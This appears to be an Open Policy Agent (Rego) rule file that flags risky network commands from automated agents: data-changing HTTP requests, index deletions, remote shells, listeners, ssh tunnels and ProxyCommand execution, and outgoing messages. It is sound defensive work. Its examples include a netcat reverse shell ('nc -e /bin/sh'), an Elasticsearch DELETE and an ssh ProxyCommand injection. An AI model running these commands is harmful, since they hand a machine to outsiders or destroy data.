# METADATA
# title: Network
# description: |
#   Requests, listeners, tunnels and messages.
package guard.rules.net

import data.guard.stage

# METADATA
# title: Request that changes something elsewhere
# description: An HTTP request with a body or another method than GET or HEAD.
# custom:
#   id: net.request
#   remedy: use GET, or show a person what would be sent
#   fires: 'curl -X POST https://api.example.com/v1/items'
#   quiet: 'curl https://api.example.com/v1/items'
hit contains {"id": "net.request", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	s.name in {"curl", "wget", "http", "https", "xh"}
	_changes_elsewhere(s)
	msg := sprintf("sends data: %s", [stage.line(s)])
}

# METADATA
# title: Deletes data over HTTP
# description: |
#   Search and document servers delete an index or a database by one request,
#   on this machine as elsewhere.
# custom:
#   id: net.delete_data
#   remedy: delete single documents, or ask a person
#   fires: curl -XDELETE localhost:9200/users
#   quiet: curl localhost:9200/users/_count
hit contains {"id": "net.delete_data", "tier": 3, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	s.name in {"curl", "wget", "http", "https", "xh"}
	some word in s.operands
	regex.match(`:(9200|5984|9201)/[^/?]+/?(\?|$)|/_delete_by_query|:(9200|5984|9201)/_all\b`, word)
	_deletes(s)
	msg := sprintf("deletes data: %s", [stage.line(s)])
}

# METADATA
# title: Shell for somebody else
# description: Connects a shell with the network, so that whoever is at the other end can type.
# custom:
#   id: net.remote_shell
#   remedy: none
#   fires: nc -e /bin/sh 10.0.0.1 4444
#   quiet: nc -z 10.0.0.1 4444
hit contains {"id": "net.remote_shell", "tier": 4, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	data.guard.tables.listeners[s.name]
	_hands_over(s)
	msg := sprintf("gives a program to the network: %s", [stage.line(s)])
}

# METADATA
# title: Listens on the network
# description: Anything that can reach the port can talk to it.
# custom:
#   id: net.listen
#   remedy: bind a local server to 127.0.0.1
#   fires: nc -l -p 4444
#   quiet: nc -zv localhost 4444
hit contains {"id": "net.listen", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	data.guard.tables.listeners[s.name]
	_listens(s)
	msg := sprintf("listens on the network: %s", [stage.line(s)])
}

# METADATA
# title: Tunnel
# description: Makes a port of this machine reachable from elsewhere.
# custom:
#   id: net.tunnel
#   remedy: ask a person to open it
#   fires: 'ssh -R 2222:localhost:22 web'
#   quiet: ssh -V
hit contains {"id": "net.tunnel", "tier": 3, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	_tunnels(s)
	msg := sprintf("makes this machine reachable from elsewhere: %s", [stage.line(s)])
}

# METADATA
# title: ssh that runs a local program
# description: These options name a command that ssh starts on this machine.
# custom:
#   id: net.ssh_exec
#   remedy: use a host from the ssh configuration
#   fires: ssh -o ProxyCommand='sh -c id' host
#   quiet: ssh -o ConnectTimeout=5 host
hit contains {"id": "net.ssh_exec", "tier": 3, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	s.name in {"ssh", "scp", "sftp", "rsync"}
	some o in s.options
	regex.match(`(?i)(proxycommand|localcommand|permitlocalcommand|knownhostscommand)\s*[= ]`, o.value)
	msg := sprintf("makes %s run a program: %s", [s.name, stage.cut(o.value)])
}

# METADATA
# title: Sends a message
# description: Messages are read by people and cannot be taken back (REQUIREMENTS S1-22).
# custom:
#   id: net.message
#   remedy: show the text to a person first
#   fires: send_message --platform telegram hi
#   quiet: 'git commit -m ''mail: send hi'''
hit contains {"id": "net.message", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	s.name in {"send_message", "send-message", "sendmail", "mail", "mailx", "mutt", "msmtp", "swaks"}
	not stage.help(s)
	msg := sprintf("sends a message: %s", [stage.line(s)])
}

_deletes(s) if {
	some o in s.options
	o.name in {"X", "request", "method"}
	upper(o.value) in {"DELETE", "POST"}
}

_deletes(s) if "DELETE" in s.operands

# httpie: the method is a word
_changes_elsewhere(s) if {
	s.name in {"http", "https", "xh"}
	s.operands[0] in {"POST", "PUT", "PATCH", "DELETE"}
}

_changes_elsewhere(s) if {
	some o in s.options
	o.name in {"X", "request", "method"}
	not upper(o.value) in {"GET", "HEAD", "OPTIONS"}
}

_changes_elsewhere(s) if {
	some flag in s.flags
	flag in {"d", "data", "data-raw", "data-binary", "data-urlencode", "data-ascii", "json", "F", "form", "form-string", "T", "upload-file", "post-data", "post-file", "body-data", "body-file"}
	not "G" in s.flags
	not "get" in s.flags
}

_hands_over(s) if {
	some flag in s.flags
	flag in {"e", "c", "exec", "sh-exec", "lua-exec"}
	s.name != "socat"
}

_hands_over(s) if {
	s.name == "socat"
	some word in s.args
	regex.match(`(?i)^(exec|system|shell):`, word)
}

_listens(s) if {
	some flag in s.flags
	flag in {"l", "listen"}
}

_listens(s) if {
	s.name == "socat"
	some word in s.args
	regex.match(`(?i)-listen:`, word)
}

_tunnels(s) if {
	data.guard.tables.tunnels[s.name] == true
	not stage.help(s)
}

_tunnels(s) if {
	s.name == "ssh"
	some flag in s.flags
	flag in {"R", "D", "w"}
}

_tunnels(s) if {
	s.name == "ssh"
	some o in s.options
	regex.match(`(?i)^(remoteforward|dynamicforward|tunnel)[= ]`, o.value)
}
